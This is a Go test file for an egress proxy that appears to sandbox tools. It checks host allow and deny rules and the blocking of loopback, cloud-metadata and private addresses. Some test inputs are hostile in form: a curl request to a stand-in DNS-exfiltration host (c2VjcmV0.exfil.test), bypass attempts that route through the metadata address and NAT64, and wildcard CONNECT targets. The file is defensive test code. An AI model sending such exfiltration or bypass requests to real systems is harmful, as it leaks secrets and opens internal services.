package egress

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os/exec"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cordonhq/cordon/internal/testenv"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/proxy"
)

func TestRules(t *testing.T) {
	rs, err := compile(Rules{Allowed: []string{"example.com", "*.npmjs.org", "10.0.0.5", "localhost:8080", "api.x.io:443"},
		Denied: []string{"evil.npmjs.org"}})
	require.NoError(t, err)
	cases := []struct {
		host string
		port int
		want Verdict
	}{
		{"example.com", 443, Allowed},
		{"sub.example.com", 443, Unlisted}, // exact names are exact
		{"registry.npmjs.org", 443, Allowed},
		{"npmjs.org", 443, Unlisted}, // a wildcard covers what is beneath only
		{"evil.npmjs.org", 443, Denied},
		{"10.0.0.5", 22, Allowed},
		{"localhost", 8080, Allowed},
		{"localhost", 8081, Unlisted},
		{"api.x.io", 443, Allowed},
		{"api.x.io", 80, Unlisted},
		{"example.com.evil.io", 443, Unlisted},
	}
	for _, c := range cases {
		v, _ := rs.verdict(c.host, c.port)
		assert.Equal(t, c.want, v, "%s:%d", c.host, c.port)
	}
	for _, ip := range []string{"127.0.0.1", "169.254.169.254", "10.1.2.3", "192.168.1.1", "::1", "fe80::1", "100.64.0.1"} {
		assert.False(t, rs.allowsAddress("name.test", netip.MustParseAddr(ip), 443), "%s behind a name", ip)
	}
	assert.True(t, rs.allowsAddress("example.com", netip.MustParseAddr("93.184.216.34"), 443))
	assert.True(t, rs.allowsAddress("10.0.0.5", netip.MustParseAddr("10.0.0.5"), 22), "an entry naming the IP opens it")
	assert.True(t, rs.allowsAddress("localhost", netip.MustParseAddr("127.0.0.1"), 8080), "localhost:PORT opens loopback on that port")
	assert.False(t, rs.allowsAddress("localhost", netip.MustParseAddr("127.0.0.1"), 8081))
	assert.False(t, rs.allowsAddress("example.com", netip.MustParseAddr("127.0.0.1"), 8080), "an allowed name resolving home opens nothing")
	assert.False(t, rs.allowsAddress("10.0.0.6", netip.MustParseAddr("10.0.0.5"), 22))
	for _, bad := range []string{"", "*", "a b", "http://x", "x:0", "x:99999", "*.", ".x"} {
		assert.Error(t, ParseEntry(bad), "%q", bad)
	}
}

// world is a proxy with local servers behind it, and a resolver that sends
// names where the test says (the sandboxes' real resolver is the
// machine's; these machines have no internet).
type world struct {
	p    *Proxy
	hits atomic.Int64
	http *httptest.Server
	tls  *httptest.Server
	// The proxy calls back on its own goroutines and the test reads after
	// curl (another process) returns, which the race detector cannot see
	// as an ordering: every shared field goes through mu.
	mu      sync.Mutex
	decided []string
	names   map[string]netip.Addr
}

func (w *world) name(host string, ip string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.names[host] = netip.MustParseAddr(ip)
}

func (w *world) decisions() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.decided...)
}

func newWorld(t *testing.T, rules func(httpPort, tlsPort int) Rules, ask func(host string, port int) Answer) *world {
	w := &world{names: map[string]netip.Addr{"localhost": netip.MustParseAddr("127.0.0.1")}}
	handler := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.hits.Add(1)
		fmt.Fprintf(rw, "hello from %s", r.Host)
	})
	w.http = httptest.NewServer(handler)
	w.tls = httptest.NewTLSServer(handler)
	t.Cleanup(w.http.Close)
	t.Cleanup(w.tls.Close)
	cfg := Config{
		Rules: rules(port(w.http.URL), port(w.tls.URL)),
		Decided: func(host string, port int, d Decision) {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.decided = append(w.decided, fmt.Sprintf("%s:%d=%s", host, port, d))
		},
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			w.mu.Lock()
			defer w.mu.Unlock()
			if ip, ok := w.names[host]; ok {
				return []netip.Addr{ip}, nil
			}
			return nil, fmt.Errorf("no such host %s", host)
		},
		ConfigHint: "~/.config/cordon/config.toml",
	}
	if ask != nil {
		cfg.Ask = func(_ context.Context, host string, port int) Answer { return ask(host, port) }
	}
	p, err := Start(cfg, "")
	require.NoError(t, err)
	t.Cleanup(p.Close)
	w.p = p
	return w
}

func port(u string) int {
	_, p, _ := net.SplitHostPort(strings.TrimPrefix(strings.TrimPrefix(u, "http://"), "https://"))
	var n int
	fmt.Sscan(p, &n)
	return n
}

// curl runs the real curl through the proxy.
func (w *world) curl(t *testing.T, args ...string) (string, error) {
	t.Helper()
	all := append([]string{"-sS", "-k", "--max-time", "10", "--proxy", fmt.Sprintf("http://127.0.0.1:%d", w.p.Port())}, args...)
	out, err := exec.Command("curl", all...).CombinedOutput()
	return string(out), err
}

func TestProxyThroughRealClients(t *testing.T) {
	w := newWorld(t, func(h, s int) Rules {
		return Rules{Allowed: []string{fmt.Sprintf("localhost:%d", h), fmt.Sprintf("localhost:%d", s), "*.allowed.test"},
			Denied: []string{"bad.allowed.test"}}
	}, nil)
	hp, sp := port(w.http.URL), port(w.tls.URL)

	out, err := w.curl(t, fmt.Sprintf("http://localhost:%d/x", hp))
	require.NoError(t, err, out)
	assert.Contains(t, out, "hello from localhost")
	out, err = w.curl(t, fmt.Sprintf("https://localhost:%d/y", sp))
	require.NoError(t, err, out)
	assert.Contains(t, out, "hello from localhost", "CONNECT to a self-signed local TLS server")

	// SOCKS5, the name resolved by the proxy (socks5h).
	d, err := proxy.SOCKS5("tcp", fmt.Sprintf("127.0.0.1:%d", w.p.Port()), nil, proxy.Direct)
	require.NoError(t, err)
	c, err := d.Dial("tcp", fmt.Sprintf("localhost:%d", hp))
	require.NoError(t, err)
	fmt.Fprintf(c, "GET / HTTP/1.0\r\nHost: localhost\r\n\r\n")
	body, _ := io.ReadAll(c)
	c.Close()
	assert.Contains(t, string(body), "hello from localhost")

	before := w.hits.Load()
	w.name("www.allowed.test", "127.0.0.1") // an allowed name pointing home
	w.name("meta.allowed.test", "169.254.169.254")
	for _, target := range []string{
		fmt.Sprintf("http://localhost:%d/", hp+1),            // unlisted port
		fmt.Sprintf("http://127.0.0.1:%d/", hp),              // an IP nobody listed
		fmt.Sprintf("http://www.allowed.test:%d/", hp),       // allowed name, loopback address
		"http://meta.allowed.test/latest/meta-data/",         // allowed name, metadata address
		fmt.Sprintf("http://bad.allowed.test:%d/", hp),       // denied wins
		fmt.Sprintf("https://unlisted.example.test:%d/", sp), // CONNECT to an unlisted host
	} {
		out, _ := w.curl(t, "-i", target)
		assert.True(t, strings.Contains(out, "403") || strings.Contains(out, "CONNECT tunnel failed"), "%s: %s", target, out)
	}
	_, err = d.Dial("tcp", "unlisted.example.test:80")
	assert.Error(t, err, "SOCKS5 refuses too")
	assert.Equal(t, before, w.hits.Load(), "no refused connection reached a server")
	out, _ = w.curl(t, "-i", "http://nowhere.test/")
	assert.Contains(t, out, `add allowed_domains = ["nowhere.test"] to ~/.config/cordon/config.toml`, "the 403 names the host and the config line")
	assert.Contains(t, w.p.Blocked(), "nowhere.test:80")
	assert.Contains(t, w.p.Blocked(), "bad.allowed.test:"+fmt.Sprint(hp))
	assert.Contains(t, w.decisions(), fmt.Sprintf("bad.allowed.test:%d=deny", hp))
	w.mu.Lock()
	_, resolved := w.names["nowhere.test"]
	w.mu.Unlock()
	assert.False(t, resolved)
}

// TestProxyNeverResolvesARefusedName: a refused name is not looked up, so
// it cannot carry data out in a DNS query.
func TestProxyNeverResolvesARefusedName(t *testing.T) {
	var looked atomic.Int64
	p, err := Start(Config{Rules: Rules{Allowed: []string{"ok.test"}},
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			looked.Add(1)
			return nil, fmt.Errorf("no")
		}}, "")
	require.NoError(t, err)
	defer p.Close()
	exec.Command("curl", "-sS", "--max-time", "5", "--proxy", fmt.Sprintf("http://127.0.0.1:%d", p.Port()), "http://c2VjcmV0.exfil.test/").Run()
	exec.Command("curl", "-sS", "--max-time", "5", "--proxy", fmt.Sprintf("socks5h://127.0.0.1:%d", p.Port()), "http://c2VjcmV0.exfil.test/").Run()
	assert.Zero(t, looked.Load(), "names looked up")
}

// TestProxyAsks: an unlisted host waits for the human; allowed once, it
// stays allowed for the rest of the call, and is not asked about again.
func TestProxyAsks(t *testing.T) {
	var (
		mu     sync.Mutex
		asked  []string
		answer = AllowOnce
	)
	w := newWorld(t, func(h, s int) Rules { return Rules{} }, func(host string, port int) Answer {
		mu.Lock()
		defer mu.Unlock()
		asked = append(asked, fmt.Sprintf("%s:%d", host, port))
		return answer
	})
	hp := port(w.http.URL)
	for range 2 {
		out, err := w.curl(t, fmt.Sprintf("http://localhost:%d/", hp))
		require.NoError(t, err, out)
		assert.Contains(t, out, "hello from localhost", "the human named localhost:%d", hp)
	}
	mu.Lock()
	assert.Equal(t, []string{fmt.Sprintf("localhost:%d", hp)}, asked, "asked once")
	mu.Unlock()
	assert.Contains(t, w.decisions(), fmt.Sprintf("localhost:%d=asked-allow", hp))

	// A name the human allows still does not open a private address.
	w.name("svc.test", "127.0.0.1")
	out, _ := w.curl(t, "-i", fmt.Sprintf("http://svc.test:%d/", hp))
	assert.Contains(t, out, "403")

	mu.Lock()
	answer = Refuse
	mu.Unlock()
	before := w.hits.Load()
	out, _ = w.curl(t, "-i", fmt.Sprintf("http://127.0.0.1:%d/", hp))
	assert.Contains(t, out, fmt.Sprintf("the human did not allow 127.0.0.1:%d", hp))
	assert.Contains(t, w.decisions(), fmt.Sprintf("127.0.0.1:%d=asked-deny", hp))
	assert.Equal(t, before, w.hits.Load())
}

// TestProxyConnectKeepsEarlyBytes: bytes a client sends right behind its
// CONNECT, before the 200 (a TLS hello sent eagerly), reach the target.
func TestProxyConnectKeepsEarlyBytes(t *testing.T) {
	echo, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer echo.Close()
	go func() {
		c, err := echo.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		io.Copy(c, c)
	}()
	c := dialLoopbackProxy(t)
	target := echo.Addr().String()
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\nearly bytes", target, target)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	require.NoError(t, err)
	require.Equal(t, 200, resp.StatusCode)
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	got := make([]byte, len("early bytes"))
	_, err = io.ReadFull(br, got)
	require.NoError(t, err)
	assert.Equal(t, "early bytes", string(got))
}

// A forwarded answer is passed on as it comes: the server sends its second
// part only once the client, through the proxy, has read the first, so a
// proxy that held the body to fill a buffer would never finish.
func TestProxyForwardStreams(t *testing.T) {
	for _, tc := range []struct {
		name   string
		length string // Content-Length, or "" for a chunked answer
	}{{"known length", "12"}, {"chunked", ""}} {
		t.Run(tc.name, func(t *testing.T) {
			firstRead := make(chan struct{})
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				if tc.length != "" {
					w.Header().Set("Content-Length", tc.length)
				}
				io.WriteString(w, "first\n")
				w.(http.Flusher).Flush()
				select {
				case <-firstRead:
				case <-time.After(10 * time.Second):
					return
				}
				io.WriteString(w, "again\n")
			}))
			defer srv.Close()
			c := dialLoopbackProxy(t)
			c.SetReadDeadline(time.Now().Add(5 * time.Second))
			fmt.Fprintf(c, "GET %s/stream HTTP/1.1\r\nHost: %s\r\n\r\n", srv.URL, srv.Listener.Addr())
			br := bufio.NewReader(c)
			resp, err := http.ReadResponse(br, nil)
			require.NoError(t, err)
			defer resp.Body.Close()
			line, err := bufio.NewReader(resp.Body).ReadString('\n')
			require.NoError(t, err, "the first part must arrive before the server sends the rest")
			assert.Equal(t, "first\n", line)
			close(firstRead)
		})
	}
}

// dialLoopbackProxy starts a proxy that allows 127.0.0.1 and connects to
// it; both end with the test.
func dialLoopbackProxy(t *testing.T) net.Conn {
	p, err := Start(Config{Rules: Rules{Allowed: []string{"127.0.0.1"}}}, "")
	require.NoError(t, err)
	t.Cleanup(p.Close)
	c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", p.Port()))
	require.NoError(t, err)
	t.Cleanup(func() { c.Close() })
	return c
}

// countingListener is a TCP service on addr that counts the connections
// it accepts and answers HTTP on each with a "hello".
func countingListener(t *testing.T, addr string) (net.Listener, *atomic.Int64) {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	require.NoError(t, err)
	t.Cleanup(func() { ln.Close() })
	counted := &acceptCounter{Listener: ln}
	go http.Serve(counted, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprint(rw, "hello from the host")
	}))
	return ln, &counted.n
}

type acceptCounter struct {
	net.Listener
	n atomic.Int64
}

func (a *acceptCounter) Accept() (net.Conn, error) {
	c, err := a.Listener.Accept()
	if err == nil {
		a.n.Add(1)
	}
	return c, err
}

// TestProxyNameNeverLeadsToThisMachine: an allowed name that resolves to
// one of the machine's own (public) interface addresses reaches nothing
// there — a service bound to 0.0.0.0 answers on that address as on
// loopback — while an entry naming the address itself still opens it.
func TestProxyNameNeverLeadsToThisMachine(t *testing.T) {
	own := testenv.InterfaceAddr(t)
	ln, hits := countingListener(t, ":0") // a host service on every address
	svc := ln.Addr().(*net.TCPAddr).Port
	ownPort := net.JoinHostPort(own.String(), fmt.Sprint(svc))
	p, err := Start(Config{Rules: Rules{Allowed: []string{"*.allowed.test", ownPort}},
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			return []netip.Addr{own}, nil // every name leads home
		}}, "")
	require.NoError(t, err)
	defer p.Close()
	proxyURL := fmt.Sprintf("http://127.0.0.1:%d", p.Port())
	curl := func(args ...string) string {
		out, _ := exec.Command("curl", append([]string{"-sS", "-i", "--max-time", "10", "--proxy", proxyURL}, args...)...).CombinedOutput()
		return string(out)
	}
	out := curl(fmt.Sprintf("http://host.allowed.test:%d/", svc))
	assert.Contains(t, out, "403", out)
	assert.Contains(t, out, "one of this machine's own", out)
	out = curl("-p", fmt.Sprintf("http://host.allowed.test:%d/", svc)) // CONNECT
	assert.NotContains(t, out, "hello from the host", out)
	d, err := proxy.SOCKS5("tcp", fmt.Sprintf("127.0.0.1:%d", p.Port()), nil, proxy.Direct)
	require.NoError(t, err)
	_, err = d.Dial("tcp", fmt.Sprintf("host.allowed.test:%d", svc))
	assert.Error(t, err, "SOCKS5 refuses too")
	assert.Zero(t, hits.Load(), "the host service was reached through a name that resolves to %s", own)

	out = curl("http://" + ownPort + "/")
	assert.Contains(t, out, "hello from the host", "an entry naming %s itself opens it: %s", own, out)
}

// TestProxyNeverReachesCordonsOwnPort: on the port of cordon's HTTP
// endpoint no local address is reached, however allowed_domains names it
// — another loopback address, the host's own interface address, 0.0.0.0,
// ::1 — whichever address cordon bound: a wildcard listener answers on
// all of them.
func TestProxyNeverReachesCordonsOwnPort(t *testing.T) {
	own := testenv.InterfaceAddr(t)
	ln, hits := countingListener(t, ":0") // cordon's HTTP endpoint on every address
	hp := uint16(ln.Addr().(*net.TCPAddr).Port)
	targets := []string{"127.0.0.1", "127.0.0.2", "127.1.2.3", own.String(), "0.0.0.0", "::1", "localhost"}
	for _, bound := range []string{"127.0.0.1", "0.0.0.0", "::", own.String()} {
		t.Run(bound, func(t *testing.T) {
			var allowed []string
			for _, h := range targets {
				allowed = append(allowed, net.JoinHostPort(h, fmt.Sprint(hp)))
			}
			p, err := Start(Config{Rules: Rules{Allowed: allowed},
				Forbidden: []netip.AddrPort{netip.AddrPortFrom(netip.MustParseAddr(bound), hp)},
				Resolve: func(context.Context, string) ([]netip.Addr, error) {
					return []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.IPv6Loopback()}, nil
				}}, "")
			require.NoError(t, err)
			defer p.Close()
			for _, h := range targets {
				target := net.JoinHostPort(h, fmt.Sprint(hp))
				c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", p.Port()))
				require.NoError(t, err)
				c.SetDeadline(time.Now().Add(5 * time.Second)) // a tunnel that opened would wait for us
				fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
				resp, err := http.ReadResponse(bufio.NewReader(c), nil)
				require.NoError(t, err)
				body, _ := io.ReadAll(resp.Body)
				c.Close()
				assert.Equal(t, http.StatusForbidden, resp.StatusCode, "%s: %s", target, body)
				assert.Contains(t, string(body), "cordon's own endpoint", target)
			}
		})
	}
	assert.Zero(t, hits.Load(), "cordon's own port was reached")
}

// TestCheckHost: only one host passes — a name or an IP address — and
// what an allow_session answer would store for it ("host:PORT") is an
// entry that matches that host alone.
func TestCheckHost(t *testing.T) {
	for _, good := range []string{"example.com", "a-b.example.com", "_dmarc.example.com", "xn--bcher-kva.de",
		"localhost", "x", "10.0.0.5", "::1", "2001:db8::1", "1password.com", "a.b.c.d.e.f.g"} {
		assert.NoError(t, checkHost(good), good)
		assertExactEntry(t, good)
	}
	for _, bad := range []string{"*.evil.test", "*", "evil.*.test", "evil.test*", "a b.test", "a..b.test", ".a.test",
		"", "a/b.test", "a@b.test", "a:b", "-a.test", "a-.test", "bücher.de", "1.2.3", "127.1", "0x7f.1",
		"fe80::1%eth0", strings.Repeat("a", 64) + ".test", strings.Repeat("a.", 127) + "test", "a\x00b.test"} {
		assert.Error(t, checkHost(bad), "%q", bad)
	}
}

// FuzzCheckHost: whatever a client sends, a host checkHost lets through
// parses as an exact allowed_domains entry for that host and no other.
func FuzzCheckHost(f *testing.F) {
	for _, s := range []string{"example.com", "*.example.com", "*", "[::1]", "a..b", "x.", "10.0.0.5", "*.10.0.0.5", "a b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if h := normalizeHost(s); checkHost(h) == nil {
			assertExactEntry(t, h)
		}
	})
}

func assertExactEntry(t *testing.T, host string) {
	t.Helper()
	e, err := parseEntry(net.JoinHostPort(host, "443"))
	require.NoError(t, err, host)
	assert.False(t, e.wildcard, "%q became a wildcard", host)
	ip, _ := netip.ParseAddr(host)
	assert.True(t, e.matches(host, ip, 443), "%q does not match itself", host)
	assert.False(t, e.matches("sub."+host, netip.Addr{}, 443), "%q matches a name beneath it", host)
	assert.False(t, e.matches(host, ip, 80), "%q matches another port", host)
}

// TestProxyRefusesWhatIsNotAHost: a CONNECT, absolute-URI or SOCKS5
// target that is no host ("*.evil.test", a space, an empty label) is
// refused before anyone is asked, so no approval can become a pattern.
func TestProxyRefusesWhatIsNotAHost(t *testing.T) {
	var asked atomic.Int64
	w := newWorld(t, func(h, s int) Rules { return Rules{Allowed: []string{"*.ok.test"}} }, func(host string, port int) Answer {
		asked.Add(1)
		return AllowSession
	})
	exchange := func(request string) string {
		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", w.p.Port()))
		require.NoError(t, err)
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, request)
		resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
		require.NoError(t, err)
		body, _ := io.ReadAll(resp.Body)
		return fmt.Sprintf("%d %s", resp.StatusCode, body)
	}
	for _, req := range []string{
		"CONNECT *.evil.test:443 HTTP/1.1\r\nHost: *.evil.test:443\r\n\r\n",
		"CONNECT *:443 HTTP/1.1\r\nHost: *:443\r\n\r\n",
		"CONNECT a..evil.test:443 HTTP/1.1\r\nHost: a..evil.test:443\r\n\r\n",
		"CONNECT *.ok.test:443 HTTP/1.1\r\nHost: *.ok.test:443\r\n\r\n", // an entry's wildcard covers no "*" host
		"GET http://*.evil.test/ HTTP/1.1\r\nHost: *.evil.test\r\nConnection: close\r\n\r\n",
	} {
		out := exchange(req)
		assert.True(t, strings.HasPrefix(out, "403 "), "%q: %s", req, out)
		assert.Contains(t, out, "is not a host name or an IP address", "%q", req)
	}
	d, err := proxy.SOCKS5("tcp", fmt.Sprintf("127.0.0.1:%d", w.p.Port()), nil, proxy.Direct)
	require.NoError(t, err)
	for _, target := range []string{"*.evil.test:443", "a b.evil.test:443", ".evil.test:443", "a b.ok.test:443"} {
		_, err := d.Dial("tcp", target)
		assert.Error(t, err, "SOCKS5 %s", target)
	}
	assert.Zero(t, asked.Load(), "the human was asked about something that is not a host")
	assert.Empty(t, w.p.Blocked(), "a non-host is not offered as a host to allow")
}

// TestProxyDeniedAddressBehindAName: a denied IP entry refuses an allowed
// name that resolves to that address, not just the address written out.
func TestProxyDeniedAddressBehindAName(t *testing.T) {
	for _, tc := range []struct {
		name   string
		denied func(port int) string
	}{
		{"the address", func(int) string { return "127.0.0.1" }},
		{"the address and port", func(p int) string { return fmt.Sprintf("127.0.0.1:%d", p) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, func(h, s int) Rules {
				// localhost:PORT is what opens loopback behind a name.
				return Rules{Allowed: []string{fmt.Sprintf("localhost:%d", h), "public.allowed.test"}, Denied: []string{tc.denied(h), "203.0.113.5"}}
			}, nil)
			hp := port(w.http.URL)
			out, _ := w.curl(t, "-i", fmt.Sprintf("http://localhost:%d/", hp))
			assert.Contains(t, out, "403", out)
			assert.Contains(t, out, "which denied_domains denies", out)
			assert.Zero(t, w.hits.Load(), "the denied address was reached through a name")
			assert.Contains(t, w.p.Blocked(), fmt.Sprintf("localhost:%d", hp))

			// The same for a public address (refused before any connection
			// is tried, so the test needs no network).
			w.name("public.allowed.test", "203.0.113.5")
			out, _ = w.curl(t, "-i", "http://public.allowed.test/")
			assert.Contains(t, out, `which denied_domains denies ("203.0.113.5")`, out)
		})
	}
	// Denying another address leaves the allowed name working.
	w := newWorld(t, func(h, s int) Rules {
		return Rules{Allowed: []string{fmt.Sprintf("localhost:%d", h)}, Denied: []string{"127.0.0.2", fmt.Sprintf("127.0.0.1:%d", h+1)}}
	}, nil)
	out, err := w.curl(t, fmt.Sprintf("http://localhost:%d/", port(w.http.URL)))
	require.NoError(t, err, out)
	assert.Contains(t, out, "hello from localhost")
}

// TestProxyIPv6CarryingIPv4: an IPv6 address that a translator or tunnel
// carries to IPv4 (NAT64, 6to4, IPv4-compatible) is judged by the IPv4
// address it carries: behind DNS64, a name resolving to 64:ff9b::7f00:1
// reaches 127.0.0.1. Refused before any dial (403), where an ordinary
// address is dialled (here unroutable: 502).
func TestProxyIPv6CarryingIPv4(t *testing.T) {
	const port = 18099
	names := map[string]string{
		"nat64-loopback.allowed.test": "64:ff9b::7f00:1",
		"nat64-metadata.allowed.test": "64:ff9b::a9fe:a9fe",
		"nat64-private.allowed.test":  "64:ff9b::a00:5",
		"nat64-site.allowed.test":     "64:ff9b:1:a00:5::",
		"sixtofour.allowed.test":      "2002:7f00:1::1",
		"compatible.allowed.test":     "::7f00:1",
		"nat64-public.allowed.test":   "64:ff9b::c000:221", // 192.0.2.33: TEST-NET, not special
	}
	var asked []string
	p, err := Start(Config{
		Rules:     Rules{Allowed: []string{"*.allowed.test", "64:ff9b::7f00:2"}, Denied: []string{"10.0.0.6"}},
		Forbidden: []netip.AddrPort{netip.MustParseAddrPort(fmt.Sprintf("127.0.0.1:%d", port))},
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			if a, ok := names[host]; ok {
				return []netip.Addr{netip.MustParseAddr(a)}, nil
			}
			if host == "nat64-denied.allowed.test" {
				return []netip.Addr{netip.MustParseAddr("64:ff9b::a00:6")}, nil
			}
			return nil, fmt.Errorf("no such host %s", host)
		},
		Ask: func(_ context.Context, host string, _ int) Answer {
			asked = append(asked, host)
			return Refuse
		}}, "")
	require.NoError(t, err)
	defer p.Close()
	connect := func(target string) (int, string) {
		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", p.Port()))
		require.NoError(t, err)
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
		resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
		require.NoError(t, err)
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body)
	}
	for name, addr := range names {
		code, body := connect(fmt.Sprintf("%s:%d", name, port))
		if name == "nat64-public.allowed.test" {
			assert.NotEqual(t, http.StatusForbidden, code, "%s (%s) is an ordinary address: %s", name, addr, body)
			continue
		}
		assert.Equal(t, http.StatusForbidden, code, "%s (%s): %s", name, addr, body)
	}
	code, body := connect(fmt.Sprintf("nat64-denied.allowed.test:%d", port))
	assert.Equal(t, http.StatusForbidden, code, body)
	assert.Contains(t, body, "10.0.0.6", "the deny entry is named")
	// Named as itself, the address is allowed, but cordon's own port is
	// never reached, whatever the IPv6 spelling of loopback.
	code, body = connect(fmt.Sprintf("[64:ff9b::7f00:2]:%d", port))
	assert.Equal(t, http.StatusForbidden, code, body)
	assert.Contains(t, body, "cordon's own endpoint")

	// The human is asked about one spelling of an address.
	connect("[0:0:0:0:0:ffff:c000:221]:80")
	assert.Equal(t, []string{"192.0.2.33"}, asked)
}

func TestDescribe(t *testing.T) {
	for host, want := range map[string]string{
		"127.0.0.1":                "this machine (loopback)",
		"0.0.0.0":                  "this machine (loopback)",
		"::ffff:127.0.0.2":         "this machine (loopback)",
		"64:ff9b::7f00:1":          "this machine (loopback), carrying the IPv4 address 127.0.0.1",
		"169.254.169.254":          "link-local (where cloud metadata services answer)",
		"10.1.2.3":                 "a private or local network",
		"64:ff9b::c000:221":        "an IPv6 address, carrying the IPv4 address 192.0.2.33",
		"192.0.2.33":               "",
		"example.com":              "",
		"2606:4700:4700::1111":     "",
		"0:0:0:0:0:ffff:a9fe:a9fe": "link-local (where cloud metadata services answer)",
	} {
		assert.Equal(t, want, Describe(host), host)
	}
}
